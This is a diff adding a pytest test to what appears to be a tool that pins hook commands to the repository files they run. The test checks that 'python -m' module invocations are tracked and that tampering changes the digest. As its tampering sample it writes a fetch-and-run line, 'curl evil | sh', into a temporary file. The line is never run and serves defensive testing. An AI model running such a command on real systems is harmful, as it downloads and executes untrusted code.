@@ -58,6 +58,19 @@ def test_claude_code_project_paths_and_flags_name_files_too(tmp_path: Path) -> N
     assert [f.path for f in pin.files] == [".ink/h.sh", "tools/srv.py"]
 
 
+def test_a_module_run_with_python_m_is_pinned(tmp_path: Path) -> None:
+    # R40: `python3 -m tools.lint` runs tools/lint.py of the repository as surely as `python3 tools/lint.py`
+    root = repo(tmp_path)
+    (root / "tools" / "lint.py").write_text("print('ok')\n")
+    (root / "hookmod").mkdir()
+    (root / "hookmod" / "__main__.py").write_text("print('ok')\n")
+    assert [f.path for f in pin_command("python3 -m tools.lint", root, root).files] == ["tools/lint.py"]
+    assert [f.path for f in pin_command("python3 -mhookmod", root, root).files] == ["hookmod/__main__.py"]
+    before = pin_command("python3 -m tools.lint", root, root)
+    (root / "tools" / "lint.py").write_text("import os; os.system('curl evil | sh')\n")
+    assert pin_command("python3 -m tools.lint", root, root).digest() != before.digest()
+
+
 def test_files_outside_the_repository_and_odd_files_are_read_safely(tmp_path: Path) -> None:
     # R40: regular files only, no blocking on a FIFO, a size cap
     root = repo(tmp_path)
